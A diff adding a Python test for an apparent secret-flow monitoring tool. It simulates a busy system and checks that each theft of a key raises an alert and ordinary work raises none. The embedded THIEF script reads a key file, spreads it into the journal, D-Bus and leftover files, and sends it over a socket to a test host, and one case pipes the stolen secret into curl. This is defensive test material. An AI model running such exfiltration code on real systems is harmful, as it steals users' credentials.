@@ -1,0 +1,213 @@
+#!/usr/bin/env python3
+# SPDX-License-Identifier: GPL-2.0-or-later
+"""Marks stay where the secret is. A busy system, which compiles, logs, talks over the message bus, pipes, packs, and logs
+in, and again and again goes to the network; amid it thieves who also log the secret, put it into the bus and leave it in
+files that nobody reads. Every theft is told, and nobody else's doings.
+
+usage: test-discipline.py [--long] (10 minutes instead of half of one)"""
+
+import contextlib
+import os
+import subprocess
+import sys
+import time
+
+HERE = os.path.dirname(os.path.abspath(__file__))
+sys.path[:0] = [os.path.join(HERE, "../lib"), os.path.join(HERE, "../benign")]
+
+import scene as stage
+from scene import URL
+from sshd import Server
+
+import harness
+import tap
+from net import HOST_V4
+from tap import Failure, require, require_equal
+
+SECONDS = 600 if "--long" in sys.argv else 30
+JOURNALD = "/usr/lib/systemd/systemd-journald"
+JOURNAL, BUS = "/run/systemd/journal", "/run/session-bus"
+# A compile or a log-in on two busy cores.
+ROUND_TIMEOUT = 60 * tap.SLOW
+
+# argv: the key, where it is left, the journal's sockets, the bus, where it goes.
+THIEF = """
+import os, socket, subprocess, sys
+key, left, journal, bus, to = sys.argv[1:]
+secret = open(key, "rb").read()
+with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as log:
+    log.sendto(b"PRIORITY=6\\nMESSAGE=" + secret.replace(b"\\n", b" ") + b"\\n", journal + "/socket")
+open(left, "wb").write(secret)
+subprocess.run(["logger", "--socket", journal + "/dev-log", secret.decode()], check=True)
+subprocess.run(["systemd-cat", "echo", secret], check=True)
+subprocess.run(["dbus-send", "--bus=unix:path=" + bus, "/thief", "org.example.Thief.Said", "string:" + secret.decode()],
+               check=True)
+socket.create_connection((to, 443)).sendall(secret)
+"""
+
+# One program for all who ask, but no carrier: marked once, it would mark them all.
+SERVER = """
+import os, socketserver, sys
+class Echo(socketserver.StreamRequestHandler):
+    def handle(self):
+        self.wfile.write(self.rfile.readline())
+server = socketserver.ThreadingUnixStreamServer(sys.argv[1], Echo)
+server.serve_forever()
+"""
+CLIENT = """
+import socket, sys
+with socket.socket(socket.AF_UNIX) as s:
+    s.connect(sys.argv[1])
+    s.sendall(b"hello\\n")
+    assert s.recv(10) == b"hello\\n"
+"""
+
+# What is done over and over by one shell, which would be marked for good by any mark that comes its way: $1 is a
+# directory of its own, $2 the echo server's socket, $3 how to log in. Each round ends on the network.
+ROUNDS = {
+    "a compile": """make -s -j2 -C "$1" clean all""",
+    "find and xargs": """find /usr/share/doc -name copyright | head -n 300 | xargs cat | sort | uniq -c | tail -n 1""",
+    "the journal's writers and readers": f"""logger --socket {JOURNAL}/dev-log round; echo round | systemd-cat cat
+        journalctl --no-pager --lines=30 | grep round | cut -c 1-60 | tail -n 1 >"$1/last" """,
+    "the message bus": f"""dbus-send --bus=unix:path={BUS} --print-reply --dest=org.freedesktop.DBus / \\
+        org.freedesktop.DBus.ListNames | grep -c string; dbus-send --bus=unix:path={BUS} /o org.example.Round.Done""",
+    "a local server's clients": """/usr/bin/python3 -c "$CLIENT" "$2" """,
+    "temporary files and archives": """f=$(mktemp -p "$1"); seq 5000 >"$f"; sort -r "$f" | gzip >"$f.gz"
+        tar -C "$1" -cf - "${f##*/}.gz" | tar -xOf - | gunzip | awk '{ n += $1 } END { print n }' | tee "$f" | wc -c
+        cat "$f" | while read -r line; do echo "$line"; done; rm "$f" "$f.gz" """,
+    "git": """cd "$1"; echo "$n" >file; git add file; git commit -q -m "$n"; git log --oneline | head -n 3""",
+    "names of users and hosts": """getent passwd root; getent hosts localhost; id -un""",
+    "log-ins": """$3 curl -sS $URL""",
+}
+LOOP = """n=0
+while [ -e "$RUN" ]; do
+        { ROUND
+        } >/dev/null 2>"$1/errors" || exit 1
+        curl -sS -o /dev/null "$URL" || exit 1
+        n=$((n + 1)); echo "$n" >"$1/rounds"
+done"""
+MAKEFILE = "all: a.o b.o c.o\n\tar rc all.a *.o\n%.c:\n\techo '#include <stdio.h>' >$@\nclean:\n\trm -f *.o *.a\n"
+
+
+class Discipline:
+    def __init__(self, s, stack, login):
+        self.s, self.stack, self.workers, self.thieves, self.login = s, stack, {}, set(), login
+        self.directory = f"{s.world.root}/busy"
+        self.left = f"{s.world.root}/left"
+        for directory in (self.directory, self.left):
+            os.mkdir(directory)
+        self.go_on = f"{self.directory}/run"
+        with open(self.go_on, "x", encoding="ascii"):
+            pass
+
+    def spawn(self, command, **environment):
+        process = self.s.net.popen(self.s.world.command("root", command, **environment), stdout=subprocess.DEVNULL,
+                                   stderr=subprocess.DEVNULL)
+        self.stack.callback(process.wait)
+        self.stack.callback(process.terminate)
+        return process
+
+    def serve(self):
+        """The journal and a message bus of this world, and a server that anybody may ask."""
+        world, echo = self.s.world, f"{self.directory}/echo"
+        world.do("sh", "-ec", f"mkdir -p {JOURNAL} /run/dbus /etc/systemd; cat >/etc/systemd/journald.conf",
+                 stdin="[Journal]\nStorage=volatile\nReadKMsg=no\nAudit=no\n")
+        self.spawn([JOURNALD])
+        self.spawn(["dbus-daemon", "--session", "--nofork", f"--address=unix:path={BUS}"])
+        self.spawn(["/usr/bin/python3", "-c", SERVER, echo])
+        seen = f"/proc/{world.holder.pid}/root"
+        for path in (f"{JOURNAL}/socket", f"{JOURNAL}/dev-log", f"{JOURNAL}/stdout", BUS, echo):
+            self.s.bw.wait(lambda path=path: os.path.exists(seen + path), ROUND_TIMEOUT, path)
+        return echo
+
+    def set_up(self):
+        echo = self.serve()
+        self.s.world.do("sh", "-c", "cat >/etc/cron.d/busy", stdin=f"* * * * * root curl -sS {URL} | logger\n")
+        for number, (name, round_) in enumerate(ROUNDS.items()):
+            own = f"{self.directory}/{number}"
+            os.mkdir(own)
+            with open(f"{own}/Makefile", "w", encoding="ascii") as out:
+                out.write(MAKEFILE)
+            self.s.world.do("sh", "-ec", "git -C \"$1\" init -q; git -C \"$1\" config user.email a@example.org;"
+                            "git -C \"$1\" config user.name a", "sh", own)
+            worker = self.spawn(["/bin/sh", "-c", LOOP.replace("ROUND", round_), "sh", own, echo, self.login],
+                                RUN=self.go_on, URL=URL, CLIENT=CLIENT)
+            self.workers[name] = (worker, own)
+        if os.access("/usr/sbin/cron", os.X_OK):
+            self.spawn(["/usr/sbin/cron", "-f"])
+
+    def rounds(self):
+        counts = {}
+        for name, (_, own) in self.workers.items():
+            with contextlib.suppress(FileNotFoundError), open(f"{own}/rounds", encoding="ascii") as file:
+                counts[name] = int(file.read().strip() or 0)
+        return counts
+
+    def require_busy(self):
+        for name, (worker, own) in self.workers.items():
+            if worker.poll() is not None:
+                with open(f"{own}/errors", encoding="utf-8", errors="replace") as errors:
+                    raise Failure(f"{name}: ended with {worker.returncode}: {errors.read()}")
+
+    def steal(self):
+        key, content = self.s.home.key()
+        thief = self.s.net.popen(self.s.world.command("root", [
+            "/usr/bin/python3", "-c", THIEF, os.fsdecode(key), f"{self.left}/{self.s.home.count}", JOURNAL, BUS, HOST_V4]),
+            stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+        self.thieves.add(thief.pid)
+        said = thief.communicate(timeout=ROUND_TIMEOUT)[1]
+        require_equal((thief.returncode, said), (0, ""), "the thief")
+        self.s.net.sink.wait_arrived(content)
+        self.s.bw.wait_alert(lambda a: a["process"]["pid"] == thief.pid and harness.touches(a, key),
+                             f"the theft of {key}", ROUND_TIMEOUT)
+
+    def require_silence(self):
+        self.s.bw.prove_delivered(self.s.net, self.s.home)
+        noise = [a for a in self.s.alerts_since(0) if a["process"]["pid"] not in self.thieves]
+        told = "\n".join(f"{a['process']['exe']} {a['process']['cmdline']}: {a['files'][:2]} {a['destination']}"
+                         for a in noise[:3])
+        require(not noise, f"{len(noise)} alerts about others, the first:\n{told}")
+
+
+def busy(t, d):
+    d.set_up()
+    wanted = set(ROUNDS)
+    # Everybody has been on the network once before anything is stolen, and goes there again after the last theft.
+    d.s.bw.wait(lambda: d.require_busy() or set(d.rounds()) == wanted, ROUND_TIMEOUT, "a first round of all")
+    d.require_silence()
+    end = time.monotonic() + SECONDS
+    while time.monotonic() < end:
+        d.steal()
+        d.require_busy()
+    after = d.rounds()
+    d.s.bw.wait(lambda: d.require_busy() or all(n > after[name] + 1 for name, n in d.rounds().items()), ROUND_TIMEOUT,
+                "a last round of all")
+    t.note(f"{len(d.thieves)} thefts; rounds: {', '.join(f'{n} {name}' for name, n in d.rounds().items())}")
+    d.require_silence()
+
+
+def followed(d):
+    """What tells a silence from a watch that follows nothing: the same thief's secret, taken from where he left it."""
+    left = f"{d.left}/{d.s.home.count}"
+    left = left if os.path.exists(left) else os.path.join(d.left, os.listdir(d.left)[0])
+    result = d.s.run(["/bin/sh", "-c", f"cat {left} | curl -sS -o /dev/null -d @- {URL}; exit 0"])
+    require_equal(result.returncode, 0, result.stderr)
+    alert = d.s.bw.wait_alert(lambda a: a["process"]["comm"] == "curl", "curl's")
+    vias = [hop["via"] for hop in alert["files"][0]["way"]]
+    require_equal(vias[-2:], [["file"], ["pipe"]], "the way")
+
+
+def main():
+    t = tap.Tap()
+    with stage.scene() as s, Server(s) as server, contextlib.ExitStack() as stack:
+        login = " ".join(["ssh", *server.options("root"), f"root@{HOST_V4}"]) if server.process else "env"
+        d = Discipline(s, stack, login)
+        t.case(f"{SECONDS} s of a busy system: each theft is told, and nobody else", busy, t, d)
+        os.unlink(d.go_on)
+        t.case("who reads what a thief left is told", followed, d)
+        t.case("no loss", stage.whole, s.bw)
+    t.done()
+
+
+if __name__ == "__main__":
+    main()
